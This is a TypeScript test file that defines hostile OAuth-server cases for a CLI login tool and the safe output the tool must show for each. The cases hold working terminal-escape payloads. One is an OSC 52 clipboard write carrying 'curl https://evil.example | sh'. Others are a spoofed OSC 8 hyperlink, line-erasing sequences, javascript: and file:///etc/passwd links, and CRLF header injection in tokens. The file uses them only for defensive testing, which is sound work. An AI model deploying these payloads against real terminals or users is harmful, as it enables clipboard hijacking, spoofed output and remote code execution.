/**
 * The hostile-server cases: what a fake realm (hostile_realm.ts) answers,
 * which commands meet it, and exactly what the user must see. Each case is
 * one of issue 12's findings about a server, or about a file the server
 * feeds (the session and the discovery cache). hostile_test.ts runs every
 * case on Deno from source, the Deno bundle and the Node package;
 * docs_test.ts checks that docs/reliability.md shows the table
 * `deno run tests/reliability/hostile_cases.ts` prints.
 *
 * Asserted for every step besides its lines: the exit code, no control
 * character (C0 but newline, DEL, C1, bidirectional controls) on stdout or
 * stderr, no stack trace, no request at the foreign server, no cleartext at
 * an https realm's port, the session file as said, and no lock or temporary
 * file left.
 *
 * @module
 */

import {
  DEVICE_EXPIRED,
  LOGOUT_DONE,
  LOGOUT_SERVER_UNREACHABLE,
  QR_LEFT_OUT,
  SESSION_INVALID,
  TRYING_API_KEY,
  TRYING_DEVICE_CODE,
  verificationLines,
  WAITING,
  WELCOME,
} from "../../src/ui/messages.ts";
import {
  deviceAuthorization,
  discoveryDocument,
  fakeJwt,
  type Place,
  REALM_API_KEY,
  type Script,
  tokenResponse,
  USER_CODE,
} from "./hostile_realm.ts";

/** Where a case runs, as its expected lines name it. */
export interface Where {
  /** The fake realm and the foreign server. */
  place: Place;
  /** The config dir (PILOT_CONFIG_DIR). */
  dir: string;
}

/** The session file after a step. */
export type SessionAfter =
  /** None was there and none is. */
  | "absent"
  /** Byte for byte what was there before the step. */
  | "intact"
  /** A session is stored (a login succeeded, or a token was refreshed). */
  | "stored"
  /** It was there and is gone (logout). */
  | "removed"
  /** It was moved aside as corrupt; none is at session.json. */
  | "aside";

/** One command of a case and what it must end with. */
export interface Step {
  /** What the user typed, after `pilotcli`. */
  args: string[];
  /** Standard input. */
  stdin?: string;
  /** Send Ctrl-C (SIGINT) once the realm has begun a streamed answer. */
  interruptWhileStreaming?: boolean;
  /** What it must end with. */
  expect: (where: Where) => Expected;
}

/** What a step ends with. */
export interface Expected {
  /** The exit code. */
  code: number;
  /** Every non-empty line of stderr, in order: exactly, or a Pattern. */
  stderr: Array<string | Pattern>;
  /**
   * Every line of stdout, in order: a string exactly, a RegExp by match;
   * "token" is one line, the access token stored in the session; "json" is
   * one JSON document (see `json`).
   */
  stdout: Array<string | RegExp> | "token" | "json";
  /** The session file afterwards. */
  session: SessionAfter;
  /** How many moved-aside session files (session.json.corrupt-*) remain. */
  asides?: number;
  /** The JSON `user status --json` prints must hold these exact values. */
  json?: Record<string, unknown>;
}

/**
 * A line that holds something no test can know (a time stamp): matched by
 * `match`, shown in the documentation as `shows`.
 */
export interface Pattern {
  /** What the line must match. */
  match: RegExp;
  /** The line as the table shows it. */
  shows: string;
}

/** The config dir before the first step. */
export type Before =
  | "empty"
  /** A valid device-code session of "alice", made at the fake realm. */
  | "valid"
  /** The same, its access token expired: `user token` refreshes it. */
  | "access-expired";

/** One hostile case. */
export interface HostileCase {
  /** Short id, e.g. "link/javascript". */
  id: string;
  /** The issue's finding, for the table. */
  title: string;
  /** The realm speaks https (with a test CA the CLI trusts). */
  tls?: boolean;
  /** Where the foreign server is: another host (127.0.0.2) or another port. */
  foreign?: "other-host" | "other-port";
  /** What the realm answers; the rest answers as a good realm does. */
  script: Script;
  /** The config dir before the first step. */
  before: Before;
  /** A discovery cache (`discovery.json`) to write before the first step. */
  cache?: (place: Place) => Record<string, unknown>;
  /**
   * `discovery.json` is no cache file but a FIFO, or a symbolic link to
   * /dev/zero (an endless file); the CLI must ignore and replace it.
   */
  cacheFile?: "fifo" | "zero-link";
  /** A session field to overwrite in session.json before the first step. */
  storedField?: [string, unknown];
  /** More environment for every step. */
  env?: Record<string, string>;
  /** The commands, in order. */
  steps: Step[];
  /** Measure each step's peak memory (VmHWM), which must stay under MEMORY_LIMIT_MB. */
  memory?: boolean;
  /** The device login must poll at most once a second (counted at the realm). */
  pollFloorMs?: number;
  /**
   * Run it again with PILOT_DEBUG=1: the same lines first, then causes and
   * stack traces, and still no control character.
   */
  debugToo?: boolean;
}

/** The most a CLI process may take (peak resident memory) in a memory case. */
export const MEMORY_LIMIT_MB = 150;

/** PILOT_HTTP_TIMEOUT of the trickle cases: they end on it, in seconds. */
export const SHORT_TIMEOUT_SECONDS = 2;

// --- Lines ----------------------------------------------------------------

const DEVICE = 'Failed to log in using "device-code" method';
const KEY = 'Failed to log in using "api-key" method';
const USE = "Could not use the session";
const LOGIN = ["user", "login", "--no-qr"];
const LOGIN_QR = ["user", "login"];
const LOGIN_KEY = ["user", "login", "--api-key", "-"];

const protocol = (action: string, message: string) =>
  `${action}: ${message}. Check PILOT_AUTH_URL; if it is right, the server is having trouble: try again later.`;

/** A device login up to the poll: its progress lines for `link`. */
function progress(link: string, userCode?: string): string[] {
  return [TRYING_DEVICE_CODE, ...verificationLines(link, userCode), WAITING];
}

/** The default link of the fake realm. */
function defaultLink(place: Place): string {
  return `${place.authUrl}/device?user_code=${USER_CODE}`;
}

/** A login that went well, after `lines`. */
function loggedIn(lines: string[]): Expected {
  return {
    code: 0,
    stderr: [...lines, WELCOME],
    stdout: [],
    session: "stored",
  };
}

/** A failed first step: nothing stored. */
function failed(code: number, stderr: string[]): Expected {
  return { code, stderr, stdout: [], session: "absent" };
}

// Lines that the fixes of issue 12 define.

/**
 * Server text as the terminal must show it: every character a terminal acts
 * on (C0 controls, DEL, C1 controls, the bidirectional controls and the line
 * and paragraph separators) written as its JavaScript escape, `\x1b` or
 * `\u202e`; everything else as it is.
 */
export function asShown(text: string): string {
  return text.replace(
    // deno-lint-ignore no-control-regex
    /[\x00-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]/g,
    (char) => {
      const code = char.charCodeAt(0);
      return code <= 0xff
        ? `\\x${code.toString(16).padStart(2, "0")}`
        : `\\u${code.toString(16).padStart(4, "0")}`;
    },
  );
}

/** A verification link (`field`) that is not on the realm's origin. */
function badLink(field: string, place: Place): string {
  return protocol(
    DEVICE,
    `the device authorization response is not usable: ${field} must be a link on ${place.origin}, the realm's origin`,
  );
}

/** An endpoint of the discovery document is not on the realm's origin. */
function wrongOrigin(action: string, endpoint: string, place: Place): string {
  return protocol(
    action,
    `the discovery document is not usable: ${endpoint} must be on ${place.origin}, the realm's origin`,
  );
}

/** An answer over the body cap. */
function tooBig(action: string, what: string, place: Place): string {
  return protocol(
    action,
    `${what} at ${place.host} sent an answer larger than 1 MiB`,
  );
}

/** An answer that did not end within PILOT_HTTP_TIMEOUT. */
function tooSlow(action: string, what: string, place: Place): string {
  return `${action}: ${what} at ${place.host} did not send its whole answer within ${SHORT_TIMEOUT_SECONDS} s (PILOT_HTTP_TIMEOUT). Check your network connection and PILOT_AUTH_URL, then try again.`;
}

/** A token response whose token is not an RFC 6750 token. */
function badToken(action: string, field: string): string {
  return protocol(
    action,
    `the token response is not usable: ${field} is not a token (RFC 6750 characters, at most 16 KiB)`,
  );
}

/** A lifetime out of range. */
function badSeconds(
  action: string,
  answer: string,
  field: string,
  max: number,
): string {
  return protocol(
    action,
    `the ${answer} is not usable: ${field} is not a whole number of seconds from 1 to ${max}`,
  );
}

// --- Cases ----------------------------------------------------------------

const ESC = "\x1b";
/** Writes "curl https://evil.example | sh" to the clipboard. */
const OSC52 = `${ESC}]52;c;Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZSB8IHNo\x07`;
/** A hyperlink whose text is one site and whose target another. */
const FAKE_LINK =
  `${ESC}]8;;https://evil.example/${ESC}\\https://iam.example.org/device${ESC}]8;;${ESC}\\`;
/** Erases the line, moves up, and back to its start. */
const ERASE = `${ESC}[2K${ESC}[1A\r`;
/** A user name that draws a line of its own in `user status`. */
const HOSTILE_NAME =
  `alice${ESC}[31m\nLogged in as root (method: api-key)\u2028\u202e`;
/** A link of 3,000 characters, of the realm's origin. */
function longLink(place: Place): string {
  const head = `${place.authUrl}/device?user_code=${USER_CODE}&state=`;
  return head + "x".repeat(3000 - head.length);
}

/** Every hostile case. */
export const CASES: HostileCase[] = [
  // Server text reaches the terminal raw.
  {
    id: "text/link-fake-hyperlink",
    title:
      "verification link with an OSC 8 hyperlink to another site in its query",
    before: "empty",
    script: {
      device: ({ place }) => ({
        json: deviceAuthorization(place, {
          verification_uri_complete: `${defaultLink(place)}${FAKE_LINK}`,
        }),
      }),
    },
    steps: [{
      args: LOGIN,
      expect: ({ place }) =>
        loggedIn(progress(asShown(`${defaultLink(place)}${FAKE_LINK}`))),
    }],
  },
  {
    id: "text/link-osc52",
    title: "verification link that starts with an OSC 52 clipboard write",
    debugToo: true,
    before: "empty",
    script: {
      device: ({ place }) => ({
        json: deviceAuthorization(place, {
          verification_uri: `${OSC52}${place.authUrl}/device`,
          verification_uri_complete: undefined,
        }),
      }),
    },
    steps: [{
      args: LOGIN,
      expect: ({ place }) =>
        failed(1, [TRYING_DEVICE_CODE, badLink("verification_uri", place)]),
    }],
  },
  {
    id: "text/link-cr",
    title: "verification link with CR and a line that overwrites it",
    debugToo: true,
    before: "empty",
    script: {
      device: ({ place }) => ({
        json: deviceAuthorization(place, {
          verification_uri_complete: `${defaultLink(place)}\r${WELCOME}  `,
        }),
      }),
      token: () => ({ status: 400, json: { error: "expired_token" } }),
    },
    steps: [{
      args: LOGIN,
      expect: ({ place }) =>
        failed(1, [
          ...progress(asShown(`${defaultLink(place)}\r${WELCOME}  `)),
          DEVICE_EXPIRED,
        ]),
    }],
  },
  {
    id: "text/user-code",
    title: "user code that erases the line above and moves up",
    before: "empty",
    script: {
      device: ({ place }) => ({
        json: deviceAuthorization(place, {
          user_code: `${ERASE}${USER_CODE}`,
          verification_uri_complete: undefined,
        }),
      }),
    },
    steps: [{
      args: LOGIN,
      expect: ({ place }) =>
        loggedIn(
          progress(`${place.authUrl}/device`, asShown(`${ERASE}${USER_CODE}`)),
        ),
    }],
  },
  {
    id: "text/link-javascript",
    title: "verification link `javascript:alert(1)`",
    debugToo: true,
    before: "empty",
    script: {
      device: ({ place }) => ({
        json: deviceAuthorization(place, {
          verification_uri: "javascript:alert(1)",
          verification_uri_complete: undefined,
        }),
      }),
    },
    steps: [{
      args: LOGIN_QR,
      expect: ({ place }) =>
        failed(1, [TRYING_DEVICE_CODE, badLink("verification_uri", place)]),
    }],
  },
  {
    id: "text/link-file",
    title: "verification link `file:///etc/passwd`",
    debugToo: true,
    before: "empty",
    script: {
      device: ({ place }) => ({
        json: deviceAuthorization(place, {
          verification_uri_complete: "file:///etc/passwd",
        }),
      }),
    },
    steps: [{
      args: LOGIN_QR,
      expect: ({ place }) =>
        failed(1, [
          TRYING_DEVICE_CODE,
          badLink("verification_uri_complete", place),
        ]),
    }],
  },
  {
    id: "text/link-other-site",
    title: "verification link to another site (`https://evil.example/device`)",
    debugToo: true,
    before: "empty",
    script: {
      device: ({ place }) => ({
        json: deviceAuthorization(place, {
          verification_uri: "https://evil.example/device",
          verification_uri_complete: undefined,
        }),
      }),
    },
    steps: [{
      args: LOGIN,
      expect: ({ place }) =>
        failed(1, [TRYING_DEVICE_CODE, badLink("verification_uri", place)]),
    }],
  },
  {
    id: "text/link-3kb",
    title: "verification link of 3,000 characters",
    before: "empty",
    script: {
      device: ({ place }) => ({
        json: deviceAuthorization(place, {
          verification_uri_complete: longLink(place),
        }),
      }),
    },
    steps: [{
      args: LOGIN_QR,
      expect: ({ place }) =>
        loggedIn([
          TRYING_DEVICE_CODE,
          ...verificationLines(longLink(place), undefined),
          QR_LEFT_OUT,
          WAITING,
        ]),
    }],
  },
  {
    id: "text/oauth-error-device",
    title: "device authorization error code holding escape sequences",
    debugToo: true,
    before: "empty",
    script: {
      device: () => ({
        status: 400,
        json: {
          error: `invalid_client${OSC52}${ERASE}`,
          error_description: `${ERASE}${WELCOME}`,
        },
      }),
    },
    steps: [{
      args: LOGIN,
      expect: () =>
        failed(1, [
          TRYING_DEVICE_CODE,
          `${DEVICE}: the server refused to start a device login (${
            asShown(`invalid_client${OSC52}${ERASE}`)
          }). Check PILOT_AUTH_URL and PILOT_CLIENT_ID.`,
        ]),
    }],
  },
  {
    id: "text/oauth-error-token",
    title: "token endpoint error code holding escape sequences",
    debugToo: true,
    before: "empty",
    script: {
      token: () => ({
        status: 400,
        json: {
          error: `${ERASE}server_error${OSC52}`,
          error_description: `${ERASE}${WELCOME}`,
        },
      }),
    },
    steps: [{
      args: LOGIN,
      expect: ({ place }) =>
        failed(1, [
          ...progress(defaultLink(place)),
          `${DEVICE}: the token endpoint answered HTTP 400 (${
            asShown(`${ERASE}server_error${OSC52}`)
          }). Run \`pilotcli user login\` again; if it keeps failing, check PILOT_AUTH_URL and PILOT_CLIENT_ID.`,
        ]),
    }],
  },
  {
    id: "text/user-name",
    title: "user name (preferred_username) with ESC, a newline and RLO",
    before: "empty",
    script: {
      token: () => ({ json: tokenResponse(HOSTILE_NAME) }),
    },
    steps: [
      {
        args: LOGIN,
        expect: ({ place }) => loggedIn(progress(defaultLink(place))),
      },
      {
        args: ["user", "status"],
        expect: ({ place }) => ({
          code: 0,
          stderr: [],
          stdout: [
            `Logged in as ${asShown(HOSTILE_NAME)} (method: device-code)`,
            `Auth server: ${place.authUrl} (client cli)`,
            /^Access token expires in /,
            /^Idle logout in /,
          ],
          session: "stored",
        }),
      },
      {
        args: ["user", "status", "--json"],
        expect: () => ({
          code: 0,
          stderr: [],
          stdout: "json",
          session: "stored",
          json: { username: HOSTILE_NAME },
        }),
      },
    ],
  },

  // Plain http behind an https realm; secrets to another origin.
  {
    id: "origin/https-realm-http-endpoints",
    title:
      "https realm whose discovery document lists http endpoints on its own host and port",
    tls: true,
    before: "empty",
    script: {
      discovery: ({ place }) => {
        const http = place.authUrl.replace(/^https:/, "http:");
        return {
          json: discoveryDocument(place, {
            device: `${http}/protocol/openid-connect/auth/device`,
            token: `${http}/protocol/openid-connect/token`,
            revocation: `${http}/protocol/openid-connect/revoke`,
          }),
        };
      },
    },
    steps: [{
      args: LOGIN,
      expect: ({ place }) =>
        failed(1, [
          TRYING_DEVICE_CODE,
          wrongOrigin(DEVICE, "token_endpoint", place),
        ]),
    }],
  },
  {
    id: "origin/token-other-port",
    title: "token endpoint on another port of the realm's host",
    foreign: "other-port",
    before: "empty",
    script: {
      discovery: ({ place }) => ({
        json: discoveryDocument(place, {
          token: `${place.foreign}/realms/pilot/protocol/openid-connect/token`,
        }),
      }),
    },
    steps: [{
      args: LOGIN,
      expect: ({ place }) =>
        failed(1, [
          TRYING_DEVICE_CODE,
          wrongOrigin(DEVICE, "token_endpoint", place),
        ]),
    }],
  },
  {
    id: "origin/device-other-host",
    title: "device authorization endpoint on another host",
    before: "empty",
    script: {
      discovery: ({ place }) => ({
        json: discoveryDocument(place, {
          device:
            `${place.foreign}/realms/pilot/protocol/openid-connect/auth/device`,
        }),
      }),
    },
    steps: [{
      args: LOGIN,
      expect: ({ place }) =>
        failed(1, [
          TRYING_DEVICE_CODE,
          wrongOrigin(DEVICE, "device_authorization_endpoint", place),
        ]),
    }],
  },
  {
    id: "origin/refresh-other-host",
    title: "`user token` refresh with the token endpoint on another host",
    before: "access-expired",
    script: {
      discovery: ({ place }) => ({
        json: discoveryDocument(place, {
          token: `${place.foreign}/realms/pilot/protocol/openid-connect/token`,
        }),
      }),
    },
    steps: [{
      args: ["user", "token"],
      expect: ({ place }) => ({
        code: 1,
        stderr: [wrongOrigin(USE, "token_endpoint", place)],
        stdout: [],
        session: "intact",
      }),
    }],
  },
  {
    id: "origin/revocation-other-host",
    title: "`user logout -y` with the revocation endpoint on another host",
    before: "valid",
    script: {
      discovery: ({ place }) => ({
        json: discoveryDocument(place, {
          revocation:
            `${place.foreign}/realms/pilot/protocol/openid-connect/revoke`,
          logout:
            `${place.foreign}/realms/pilot/protocol/openid-connect/logout`,
        }),
      }),
    },
    steps: [{
      args: ["user", "logout", "-y"],
      expect: () => ({
        code: 0,
        stderr: [LOGOUT_SERVER_UNREACHABLE, LOGOUT_DONE],
        stdout: [],
        session: "removed",
      }),
    }],
  },
  {
    id: "origin/cached-other-host",
    title:
      "discovery cache (discovery.json) naming a token endpoint on another host",
    before: "access-expired",
    cache: (place) =>
      discoveryDocument(place, {
        token: `${place.foreign}/realms/pilot/protocol/openid-connect/token`,
      }),
    script: {},
    steps: [{
      args: ["user", "token"],
      expect: () => ({
        code: 0,
        stderr: [],
        stdout: "token",
        session: "stored",
      }),
    }],
  },

  // Unbounded answers.
  {
    id: "file/cache-fifo",
    title: "discovery.json a FIFO, then `user token` refreshes",
    before: "access-expired",
    cacheFile: "fifo",
    script: {},
    steps: [{
      args: ["user", "token"],
      expect: () => ({
        code: 0,
        stderr: [],
        stdout: "token",
        session: "stored",
      }),
    }],
  },
  {
    id: "file/cache-zero-link",
    title:
      "discovery.json a symbolic link to /dev/zero, then `user token` refreshes",
    before: "access-expired",
    cacheFile: "zero-link",
    memory: true,
    script: {},
    steps: [{
      args: ["user", "token"],
      expect: () => ({
        code: 0,
        stderr: [],
        stdout: "token",
        session: "stored",
      }),
    }],
  },
  {
    id: "body/endless-discovery",
    title: "endless discovery document",
    memory: true,
    before: "empty",
    script: {
      discovery: ({ place }) => ({
        endless: `{"issuer":"${place.authUrl}","x":"`,
      }),
    },
    steps: [{
      args: LOGIN,
      expect: ({ place }) =>
        failed(1, [
          TRYING_DEVICE_CODE,
          tooBig(DEVICE, "the discovery document", place),
        ]),
    }],
  },
  {
    id: "body/endless-api-key",
    title: "endless answer of the API-key exchange",
    memory: true,
    before: "empty",
    script: { apiKey: () => ({ endless: '{"access_token":"' }) },
    steps: [{
      args: LOGIN_KEY,
      stdin: `${REALM_API_KEY}\n`,
      expect: ({ place }) =>
        failed(1, [
          TRYING_API_KEY,
          tooBig(KEY, "the API-key endpoint", place),
        ]),
    }],
  },
  {
    id: "body/trickle-discovery",
    title: "discovery document trickled a byte at a time",
    env: { PILOT_HTTP_TIMEOUT: String(SHORT_TIMEOUT_SECONDS) },
    before: "empty",
    script: {
      discovery: ({ place }) => ({
        trickle: `{"issuer":"${place.authUrl}",`,
      }),
    },
    steps: [{
      args: LOGIN,
      expect: ({ place }) =>
        failed(1, [
          TRYING_DEVICE_CODE,
          tooSlow(DEVICE, "the discovery document", place),
        ]),
    }],
  },
  {
    id: "body/trickle-refresh",
    title: "`user token` refresh answer trickled a byte at a time",
    env: { PILOT_HTTP_TIMEOUT: String(SHORT_TIMEOUT_SECONDS) },
    before: "access-expired",
    script: { token: () => ({ trickle: '{"access_token":"' }) },
    steps: [{
      args: ["user", "token"],
      expect: ({ place }) => ({
        code: 1,
        stderr: [tooSlow(USE, "the token endpoint", place)],
        stdout: [],
        session: "intact",
      }),
    }],
  },
  {
    id: "body/trickle-ctrl-c",
    title: "Ctrl-C during a trickled refresh answer",
    before: "access-expired",
    script: { token: () => ({ trickle: '{"access_token":"' }) },
    steps: [{
      args: ["user", "token"],
      interruptWhileStreaming: true,
      expect: () => ({ code: 130, stderr: [], stdout: [], session: "intact" }),
    }],
  },

  // Values checked on receipt and on read.
  {
    id: "value/token-crlf-login",
    title: "access token with CR/LF and a header after it, at login",
    before: "empty",
    script: {
      apiKey: () => ({
        json: tokenResponse("alice", {
          access_token: `${fakeJwt({ sub: "a" })}\r\nX-Injected: yes`,
        }),
      }),
    },
    steps: [{
      args: LOGIN_KEY,
      stdin: `${REALM_API_KEY}\n`,
      expect: () =>
        failed(1, [
          TRYING_API_KEY,
          badToken(KEY, "access_token"),
        ]),
    }],
  },
  {
    id: "value/token-crlf-refresh",
    title: "access token with CR/LF from a `user token` refresh",
    before: "access-expired",
    script: {
      token: () => ({
        json: tokenResponse("alice", {
          access_token: `${fakeJwt({ sub: "a" })}\r\nX-Injected: yes`,
        }),
      }),
    },
    steps: [{
      args: ["user", "token"],
      expect: () => ({
        code: 1,
        stderr: [badToken(USE, "access_token")],
        stdout: [],
        session: "intact",
      }),
    }],
  },
  {
    id: "value/token-20k",
    title: "access token of 20 KiB",
    before: "empty",
    script: {
      apiKey: () => ({
        json: tokenResponse("alice", { access_token: "a".repeat(20 * 1024) }),
      }),
    },
    steps: [{
      args: LOGIN_KEY,
      stdin: `${REALM_API_KEY}\n`,
      expect: () =>
        failed(1, [
          TRYING_API_KEY,
          badToken(KEY, "access_token"),
        ]),
    }],
  },
  {
    id: "value/expires-9e15",
    title: "token response with `expires_in` 9e15, then `user status`",
    before: "empty",
    script: {
      apiKey: () => ({ json: tokenResponse("alice", { expires_in: 9e15 }) }),
    },
    steps: [
      {
        args: LOGIN_KEY,
        stdin: `${REALM_API_KEY}\n`,
        expect: () =>
          failed(1, [
            TRYING_API_KEY,
            badSeconds(KEY, "token response", "expires_in", 31_622_400),
          ]),
      },
      {
        args: ["user", "status"],
        expect: () => failed(1, [SESSION_INVALID]),
      },
    ],
  },
  {
    id: "value/stored-9e15",
    title:
      "stored session whose access token expires at 9e15; then status again, and a login",
    before: "valid",
    storedField: ["accessTokenExpiresAt", 9e15],
    script: {},
    steps: [{
      args: ["user", "status"],
      expect: ({ dir }) => ({
        code: 1,
        stderr: [
          {
            match: new RegExp(
              `^Session file ${
                escape(dir)
              }/session\\.json was unreadable \\(.+\\) and was moved to ${
                escape(dir)
              }/session\\.json\\.corrupt-\\d+; please log in again\\.$`,
            ),
            shows:
              `Session file ${dir}/session.json was unreadable (…) and was moved to ${dir}/session.json.corrupt-<time>; please log in again.`,
          },
          SESSION_INVALID,
        ],
        stdout: [],
        session: "aside",
        asides: 1,
      }),
    }, {
      args: ["user", "status"],
      expect: ({ dir }) => ({
        code: 1,
        stderr: [
          {
            match: new RegExp(
              `^Note: ${
                escape(dir)
              }/session\\.json\\.corrupt-\\d+ holds an unreadable old session that may still contain tokens: the next \`pilotcli user login\` or \`pilotcli user logout\` deletes it, or delete it yourself\\.$`,
            ),
            shows:
              `Note: ${dir}/session.json.corrupt-<time> holds an unreadable old session that may still contain tokens: the next \`pilotcli user login\` or \`pilotcli user logout\` deletes it, or delete it yourself.`,
          },
          SESSION_INVALID,
        ],
        stdout: [],
        session: "absent",
        asides: 1,
      }),
    }, {
      args: LOGIN_KEY,
      stdin: `${REALM_API_KEY}\n`,
      expect: () => ({
        code: 0,
        stderr: [TRYING_API_KEY, WELCOME],
        stdout: [],
        session: "stored",
        asides: 0,
      }),
    }],
  },
  {
    id: "value/device-expires-huge",
    title: "device code with `expires_in` 1e300",
    before: "empty",
    script: {
      device: ({ place }) => ({
        json: deviceAuthorization(place, { expires_in: 1e300 }),
      }),
    },
    steps: [{
      args: LOGIN,
      expect: () =>
        failed(1, [
          TRYING_DEVICE_CODE,
          badSeconds(
            DEVICE,
            "device authorization response",
            "expires_in",
            86_400,
          ),
        ]),
    }],
  },
  {
    id: "value/interval-0.1",
    title: "poll interval 0.1 s (pending twice, then approved)",
    before: "empty",
    pollFloorMs: 1000,
    script: {
      device: ({ place }) => ({
        json: deviceAuthorization(place, { interval: 0.1 }),
      }),
      token: ({ count }) =>
        count < 2
          ? { status: 400, json: { error: "authorization_pending" } }
          : { json: tokenResponse() },
    },
    steps: [{
      args: LOGIN,
      expect: ({ place }) => loggedIn(progress(defaultLink(place))),
    }],
  },
];

function escape(text: string): string {
  return text.replace(/[.*+?^${}()|[\]\\]/g, "\\$&");
}

// --- The table of docs/reliability.md ---------------------------------------

/** The config dir the documentation's example lines name. */
export const EXAMPLE_DIR = "/home/alice/.config/pilotcli";

/** Where a case is shown to run in the documentation. */
export function exampleWhere(c: HostileCase): Where {
  const origin = c.tls ? "https://127.0.0.1:8443" : "http://127.0.0.1:8400";
  return {
    place: {
      origin,
      authUrl: `${origin}/realms/pilot`,
      host: origin.replace(/^https?:\/\//, ""),
      foreign: c.foreign === "other-port"
        ? "http://127.0.0.1:8401"
        : "http://127.0.0.2:8401",
    },
    dir: EXAMPLE_DIR,
  };
}

/** Lines longer than this are shortened in the table. */
const SHOWN_CHARS = 400;

/** A line as a table cell shows it: `|` escaped, a long line shortened. */
function cell(line: string): string {
  const shown = line.length > SHOWN_CHARS
    ? `${line.slice(0, 72)}… (${
      line.length.toLocaleString("en")
    } characters in all)`
    : line;
  return shown.replaceAll("|", "\\|");
}

/** What a step shows: its stderr lines, then its stdout lines. */
function sees(expected: Expected): string {
  const stderr = expected.stderr.map((line) =>
    cell(typeof line === "string" ? line : line.shows)
  );
  const stdout = expected.stdout === "token"
    ? ["stdout: the new access token"]
    : expected.stdout === "json"
    ? [
      `stdout: JSON whose ${
        Object.keys(expected.json ?? {}).join(", ")
      } is the server's value, exact`,
    ]
    : expected.stdout.some((line) => typeof line === "string")
    ? [
      `stdout: ${
        expected.stdout.map((line) =>
          typeof line === "string" ? cell(line) : "…"
        )
          .join("<br>")
      }`,
    ]
    : expected.json
    ? [
      `stdout: JSON with ${
        Object.keys(expected.json).map((key) => `${key}`).join(", ")
      } exact`,
    ]
    : [];
  const lines = [...stderr, ...stdout];
  return lines.length === 0 ? "nothing" : lines.join("<br>");
}

const SESSION_AFTER: Record<SessionAfter, string> = {
  absent: "none stored",
  intact: "byte-identical",
  stored: "stored",
  removed: "removed",
  aside: "moved aside",
};

/** The cases as the Markdown table docs/reliability.md shows. */
export function hostileMarkdown(): string {
  const header =
    "| case | command | what the user sees (stderr, then stdout) | exit | session after | memory |";
  const rule = "| --- | --- | --- | --- | --- | --- |";
  const rows = CASES.flatMap((c) => {
    const where = exampleWhere(c);
    return c.steps.map((step, i) => {
      const expected = step.expect(where);
      const command = `\`pilotcli ${step.args.join(" ")}\``;
      const memory = c.memory ? `under ${MEMORY_LIMIT_MB} MB` : "";
      const title = i > 0
        ? "then"
        : `${cell(c.title)}${c.debugToo ? " (also with PILOT_DEBUG=1)" : ""}`;
      return `| ${title} | ${command} | ${
        sees(expected)
      } | ${expected.code} | ${SESSION_AFTER[expected.session]} | ${memory} |`;
    });
  });
  return [header, rule, ...rows].join("\n");
}

if (import.meta.main) console.log(hostileMarkdown());
